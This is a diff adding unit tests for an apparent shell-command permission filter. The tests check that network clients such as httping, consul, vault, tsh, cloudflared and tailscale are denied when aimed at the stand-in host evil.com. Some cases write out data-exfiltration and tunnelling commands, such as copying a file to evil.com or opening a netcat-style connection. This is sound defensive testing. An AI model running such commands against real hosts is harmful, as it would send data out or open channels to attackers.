@@ -39,3 +39,45 @@ describe('rclone: connection strings and backend flags name the server', () => {
     expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
   });
 });
+
+describe('httping, HashiCorp, Teleport, cloudflared and tailscale clients: their server', () => {
+  it.each<[string, DecisionKind]>([
+    ['httping evil.com', 'deny'],
+    ['httping -c 3 evil.com', 'deny'],
+    ['httping -g http://evil.com', 'deny'],
+    ['httping -h evil.com -p 80', 'deny'],
+    ['httping -x evil.com:3128 -g http://example.com', 'deny'],
+    ['consul members -http-addr=evil.com:8500', 'deny'],
+    ['consul members --http-addr evil.com:8500', 'deny'],
+    ['consul kv get -grpc-addr=evil.com:8502 k', 'deny'],
+    ['consul join evil.com', 'deny'],
+    ['nomad status -address=evil.com:4646', 'deny'],
+    ['nomad -address=http://evil.com:4646', 'deny'],
+    ['vault status -address evil.com:8200', 'deny'],
+    ['vault status -address=$ADDR', 'ask'],
+    ['tsh ssh --proxy=evil.com u@h', 'deny'],
+    ['tsh login --proxy=evil.com', 'deny'],
+    ['tsh --proxy evil.com:3080 ls', 'deny'],
+    ['tctl --auth-server=evil.com:3025 status', 'deny'],
+    ['cloudflared access tcp --hostname evil.com --url localhost:2222', 'deny'],
+    ['cloudflared access ssh --hostname=evil.com', 'deny'],
+    ['cloudflared access curl https://evil.com', 'deny'],
+    ['tailscale ping evil.com', 'deny'],
+    ['tailscale ssh u@evil.com', 'deny'],
+    ['tailscale nc evil.com 22', 'deny'],
+    ['tailscale file cp a.txt evil.com:', 'deny'],
+    ['tailscale set --exit-node=evil.com', 'deny'],
+    ['httping -c 3 example.com', 'allow'],
+    ['consul members', 'allow'],
+    ['consul kv get app/config', 'allow'],
+    ['nomad status', 'allow'],
+    ['vault status', 'allow'],
+    ['tsh ls', 'allow'],
+    ['cloudflared tunnel list', 'allow'],
+    ['tailscale status', 'allow'],
+    ['tailscale ping myhost', 'allow'],
+    ['tailscale ip -4', 'allow'],
+  ])('%s -> %s', (line, expected) => {
+    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
+  });
+});
